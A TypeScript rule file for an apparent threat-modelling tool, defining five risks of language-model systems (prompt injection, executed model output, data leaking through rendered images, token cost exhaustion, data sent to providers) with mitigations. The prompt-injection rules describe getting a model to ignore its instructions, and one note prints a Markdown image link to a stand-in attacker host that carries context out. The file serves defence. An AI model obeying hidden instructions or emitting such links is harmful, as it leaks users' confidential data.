import { defineRules } from "../rule.ts";

/** Language models: what goes in and what comes out. Acting is in agents.ts, teaching in training.ts. */
export const rules = defineRules([
  {
    id: "prompt-takes-over",
    title: "{source} talks {target} out of its instructions",
    stride: "T",
    cwe: [74, 693],
    weight: 2,
    on: "flow",
    when: {
      source: { groups: ["human", "client", "web-app", "api"], trust: { atMost: 60 } },
      target: {
        groups: ["model"],
        type: ["process"],
        lacks: ["instruction-isolation", "output-filter", "tool-allow-list"],
      },
      lacks: ["instruction-isolation", "output-filter"],
    },
    note: "A model reads one text; which part of it is an instruction is a habit, not a boundary. So a system prompt is neither a place for secrets nor a check of rights: assume that users read it and that they can get any answer that the model can give. The question is what such an answer can reach.",
    statement: {
      source: "user",
      prerequisites: "who writes to {target}",
      action: "have it ignore its instructions and say what the operator forbade",
      impact: "leaked instructions and promises in the company's name",
      goals: ["integrity", "confidentiality"],
    },
    mitigations: [
      {
        text: "Decide rights and prices in code outside of the model; keep secrets out of prompts.",
        control: "instruction-isolation",
      },
      {
        text: "Check questions and answers with Bedrock Guardrails as one layer, and measure what still passes.",
        control: "output-filter",
        aws: true,
      },
    ],
    sources: [
      "https://genai.owasp.org/llmrisk/llm01-prompt-injection/",
      "https://docs.aws.amazon.com/bedrock/latest/userguide/prompt-injection.html",
    ],
  },
  {
    id: "model-answer-executed",
    title: "An answer of {source} runs as code or markup in {target}",
    stride: "T",
    cwe: [1426, 79, 94],
    weight: 3,
    on: "flow",
    when: {
      source: { groups: ["model"], type: ["process"] },
      target: {
        groups: ["web-app", "browser", "database", "function", "vm", "container", "worker"],
        notGroups: ["vector-store"],
        lacks: ["output-encoding", "parameterised-queries", "sandboxed-parsing"],
      },
      lacks: ["output-encoding", "input-validation", "parameterised-queries", "sandboxed-parsing"],
    },
    unless: [{ source: { controls: ["output-encoding"] } }],
    note: "Whoever can influence the prompt writes the answer, so a model's output is user input, with better grammar. It meets sinks that were built for trusted templates: innerHTML, a SQL console, eval, a shell in a notebook. A schema says that a field is a string and not that it is harmless.",
    statement: {
      source: "author of any text that {source} reads",
      prerequisites: "and of none of the code",
      action: "have it answer with script, a query or a command",
      impact: "execution in {target} with its rights",
      goals: ["integrity", "confidentiality"],
    },
    mitigations: [
      {
        text: "Encode for the place where it is shown, render Markdown without HTML, bind values in queries.",
        control: "output-encoding",
      },
      {
        text: "Run generated code in a machine of its own without network or role, such as AgentCore's code interpreter in sandbox mode.",
        control: "sandboxed-parsing",
        aws: true,
      },
    ],
    sources: ["https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/"],
  },
  {
    id: "answer-carries-data-out",
    title: "An answer of {source} sends {data} away when {target} shows it",
    stride: "I",
    cwe: [201, 200],
    on: "flow",
    when: {
      source: { groups: ["model"], type: ["process"] },
      target: { groups: ["client", "web-app", "messaging", "human"] },
      data: { atLeast: "confidential" },
      lacks: ["output-filter", "content-security-policy"],
    },
    unless: [
      { target: { controls: ["content-security-policy", "output-filter"] } },
      { source: { controls: ["output-filter", "egress-filter"] } },
    ],
    note: "An image in Markdown is a request: ![](https://attacker/?q=…) sends what stands in the context, without a click, as soon as the chat window renders it. Link previews and fonts do the same. The model needs no tool and no network for it, the reader's browser is both.",
    statement: {
      source: "author of a page or mail that {source} reads",
      prerequisites: "in which instructions are hidden",
      action: "have it put {data} into the address of an image",
      impact: "disclosure of {data} to the author's server",
      goals: ["confidentiality"],
    },
    mitigations: [
      {
        text: "Render images and links from listed hosts only, enforced by a content security policy (img-src, connect-src).",
        control: "content-security-policy",
      },
      {
        text: "Mask personal data in answers with the sensitive information filter of Bedrock Guardrails.",
        control: "output-filter",
        aws: true,
      },
    ],
    sources: [
      "https://genai.owasp.org/llmrisk/llm022025-sensitive-information-disclosure/",
      "https://genai.owasp.org/llmrisk/llm052025-improper-output-handling/",
    ],
  },
  {
    id: "tokens-cost-money",
    title: "{source} runs up the bill of {target}",
    stride: "D",
    cwe: [770, 400],
    capec: [130],
    on: "flow",
    when: {
      source: { trust: { atMost: 40 } },
      target: { groups: ["model"], type: ["process"], lacks: ["quota"] },
      lacks: ["quota"],
    },
    unless: [{ source: { controls: ["quota"] } }],
    note: "Requests are the wrong unit: one question with a long document, or an agent that loops over its tools, costs a thousand short ones. A rate limit lets it pass. The provider's own quota is shared by the whole account, so one customer's loop takes the model from all others.",
    statement: {
      source: "customer or bot",
      prerequisites: "with an ordinary account",
      action: "send long inputs or set off loops of {target}",
      impact: "a large bill, and refusal for everybody else",
      goals: ["availability"],
    },
    mitigations: [
      {
        text: "Count tokens for each customer, limit input, output and steps of an agent, and stop at a budget.",
        control: "quota",
      },
      {
        text: "Tag use with application inference profiles and alarm on cost within the hour; keep a provisioned share for paying customers.",
        control: "quota",
        aws: true,
      },
    ],
    sources: ["https://genai.owasp.org/llmrisk/llm102025-unbounded-consumption/"],
  },
  {
    id: "customer-data-to-provider",
    title: "{data} leaves for {target} with every prompt",
    stride: "I",
    cwe: [201, 359],
    on: "flow",
    when: {
      crosses: true,
      rise: { atMost: -10 },
      target: { groups: ["model"] },
      data: { atLeast: "confidential" },
      lacks: ["data-minimisation", "pseudonymisation", "tokenisation"],
    },
    note: "Prompts collect more than any API did: whole mails, tickets, files, because more context answers better. What the provider keeps, for how long, in which country, and whether people read it for abuse checks, stands in a contract; nothing technical enforces it.",
    statement: {
      source: "provider or intruder there",
      prerequisites: "with the prompts of {source}",
      action: "read, keep or train on them",
      impact: "disclosure of {data} outside of our control",
      goals: ["confidentiality"],
    },
    mitigations: [
      {
        text: "Replace names and numbers by tokens before the call and put them back after it.",
        control: "pseudonymisation",
      },
      {
        text: "Call the model through Bedrock over a VPC endpoint, where prompts are not shared with model providers; mind cross-region inference profiles.",
        control: "data-minimisation",
        aws: true,
      },
    ],
    sources: [
      "https://docs.aws.amazon.com/bedrock/latest/userguide/data-protection.html",
      "https://genai.owasp.org/llmrisk/llm022025-sensitive-information-disclosure/",
    ],
  },
]);
